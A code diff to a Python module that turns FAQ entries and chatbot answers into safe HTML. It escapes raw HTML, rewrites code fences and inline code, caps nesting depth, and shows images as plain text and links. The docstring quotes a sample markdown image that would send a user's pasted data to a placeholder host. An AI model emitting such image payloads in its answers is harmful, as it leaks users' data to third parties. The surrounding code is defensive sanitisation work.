@@ -2,12 +2,16 @@
 own HTML/CSS/JS. Pure functions and strings (no gradio, no FastAPI), so they are tested without
 a server and kb/web.py keeps only the serving.
 
-FAQ text is untrusted: entry HTML is rendered with raw HTML off, chat markdown has `<`/`>` in
-prose escaped, and the chat's sanitizer runs on top.
+FAQ text and model answers are untrusted: entry HTML is rendered with raw HTML off, chat markdown
+is rewritten by `escape_md_html` so that no HTML of theirs reaches the page (the chat's sanitizer
+runs on top, but is not relied on), and no remote image is ever rendered: an image in an answer
+(`![x](http://host/?d=<the user's paste>)`) would make the browser send data to that host, and
+one in a FAQ is a tracking beacon. Images are shown as their text and URL instead.
 """
 
 from __future__ import annotations
 
+import bisect
 import html
 import json
 import re
@@ -25,12 +29,36 @@ BIG_PASTE_CHARS = 20_000  # pastes above this skip the browser's slow editing pa
 # --------------------------------------------------------------------------------------------
 # Entry rendering (side panel and /entry pages): FAQ markdown with raw HTML shown as text
 # --------------------------------------------------------------------------------------------
+# markdown-it stops reading a container nested deeper than this and silently drops the rest; a
+# body that reaches it is shown as plain text instead (commonmark's default is 20).
+MAX_NESTING = 50
+
+
+def _image_as_text(self, tokens, idx, options, env) -> str:
+    """An image token as its alt text and its URL as a link: nothing is fetched."""
+    token = tokens[idx]
+    alt = html.escape(self.renderInlineAsText(token.children or [], options, env))
+    src = html.escape(str(token.attrs.get("src", "")))
+    return (
+        f'<span class="kb-image">[image: {alt}] '
+        f'<a href="{src}" target="_blank" rel="noopener noreferrer nofollow">{src}</a></span>'
+    )
+
+
 def _markdown(text: str) -> str:
     from markdown_it import MarkdownIt
 
     # html=False: a <script> (or any tag) in a FAQ is escaped and shown as text, never run.
     # markdown-it also refuses javascript:/vbscript:/data: link targets.
-    return MarkdownIt("commonmark", {"html": False}).enable("table").render(text)
+    md = MarkdownIt("commonmark", {"html": False, "maxNesting": MAX_NESTING}).enable("table")
+    md.add_render_rule("image", _image_as_text)
+    tokens = md.parse(text)
+    if any(t.level >= MAX_NESTING - 1 for t in tokens):  # content past this level was dropped
+        return (
+            '<p class="kb-note">Nested too deeply to lay out; shown as plain text. · 嵌套过深，按纯文本显示。</p>'
+            f'<pre class="kb-plain">{html.escape(text)}</pre>'
+        )
+    return md.renderer.render(tokens, md.options, {})
 
 
 def _source_label(e) -> str:
@@ -90,32 +118,89 @@ UI = {
 }
 
 _FENCE = re.compile(r"(?ms)^(`{3,}|~{3,})[^\n]*\n.*?^\1[ \t]*$")
-_CODE_SPAN = re.compile(r"(`+)(?!`).+?(?<!`)\1", re.S)
+_FENCE_OPEN = re.compile(r"^ {0,3}(`{3,}|~{3,})(.*)$")
+_MD_PUNCT = re.compile(r"([\\`*_{}\[\]()#+\-.!|~])")
 
 
 def escape_md_html(text: str) -> str:
-    """Show `<` and `>` in prose as text (the chat renders markdown), leaving code untouched."""
+    """Markdown for the chat in which no HTML of the text's own can reach the page, and no image.
 
-    def prose(s: str) -> str:
-        out, pos = [], 0
-        for m in _CODE_SPAN.finditer(s):
-            out.append(s[pos : m.start()].replace("<", "&lt;").replace(">", "&gt;"))
-            out.append(m.group(0))
-            pos = m.end()
-        out.append(s[pos:].replace("<", "&lt;").replace(">", "&gt;"))
-        return "".join(out)
+    The chat's markdown renderer (marked, in the browser) decides what is code; any `<` it sees
+    outside code is HTML. Guessing its code spans with a regex failed (`\\`` is no code span to
+    marked), so nothing here depends on agreeing with it:
+    - a fenced block (CommonMark's open and close rules) is written again as a fence of our own at
+      column 0, longer than any backtick run inside: marked sees exactly that fence, whatever
+      list or quote came before it;
+    - everywhere else `<` and `>` become entities and every `![` becomes `!\\[` (no image);
+      inline code becomes `<code>` with its text escaped, so code that marked reads differently is
+      at worst shown oddly, never run.
+    """
+    lines = text.split("\n")
+    out: list[str] = []
+    prose: list[str] = []
+    i = 0
+    while i < len(lines):
+        m = _FENCE_OPEN.match(lines[i])
+        if m and not (m.group(1)[0] == "`" and "`" in m.group(2)):
+            marker = m.group(1)
+            closer = re.compile(rf"^ {{0,3}}{re.escape(marker[0])}{{{len(marker)},}}[ \t]*$")
+            end = next((j for j in range(i + 1, len(lines)) if closer.match(lines[j])), None)
+            if end is not None:
+                if prose:
+                    out.append(_prose("\n".join(prose)))
+                    prose = []
+                info = re.sub(r"[^\w+.-]", "", m.group(2).strip().split(" ")[0])
+                out.append(code_block("\n".join(lines[i + 1 : end]), info))
+                i = end + 1
+                continue
+        prose.append(lines[i])
+        i += 1
+    if prose:
+        out.append(_prose("\n".join(prose)))
+    return "\n".join(out)
 
-    out, pos = [], 0
-    for m in _FENCE.finditer(text):
-        out.append(prose(text[pos : m.start()]))
-        out.append(m.group(0))
-        pos = m.end()
-    out.append(prose(text[pos:]))
+
+_PROSE_SPECIAL = re.compile(r"\\[\s\S]|`+|[<>]|!\[")
+
+
+def _prose(s: str) -> str:
+    """Text outside fences: see escape_md_html. One regex pass (a 2 MB one-line paste is shown)."""
+    runs: dict[int, list[int]] = {}  # backtick run length -> where such runs start
+    for m in re.finditer(r"`+", s):
+        runs.setdefault(len(m.group(0)), []).append(m.start())
+    out: list[str] = []
+    pos = 0
+    while (m := _PROSE_SPECIAL.search(s, pos)) is not None:
+        out.append(s[pos : m.start()])
+        token, pos = m.group(0), m.end()
+        if token[0] == "\\":
+            # \< is a literal "<" to markdown: the entity says the same without the backslash.
+            out.append({"\\<": "&lt;", "\\>": "&gt;"}.get(token, token))
+        elif token[0] == "`":
+            starts = runs.get(len(token), [])
+            k = bisect.bisect_left(starts, pos)
+            if k == len(starts):  # never closed: literal backticks, escaped so marked pairs none
+                out.append("\\`" * len(token))
+            else:  # a code span (backslashes inside it are literal, as in CommonMark)
+                out.append(_inline_code(s[pos : starts[k]]))
+                pos = starts[k] + len(token)
+        elif token == "![":
+            out.append("!\\[")  # never an image: its text and URL stay visible
+        else:
+            out.append("&lt;" if token == "<" else "&gt;")
+    out.append(s[pos:])
     return "".join(out)
 
 
+def _inline_code(code: str) -> str:
+    code = code.replace("\n", " ")
+    if len(code) > 2 and code[0] == code[-1] == " " and code.strip():
+        code = code[1:-1]
+    return "<code>" + html.escape(_MD_PUNCT.sub(r"\\\1", code), quote=False) + "</code>"
+
+
 def _link_text(s: str) -> str:
-    return escape_md_html(s).replace("[", "\\[").replace("]", "\\]")
+    return re.sub(r"(?<!\\)([\[\]])", r"\\\1", escape_md_html(s))
 
 
 def entry_link(e, label: str | None = None) -> str:
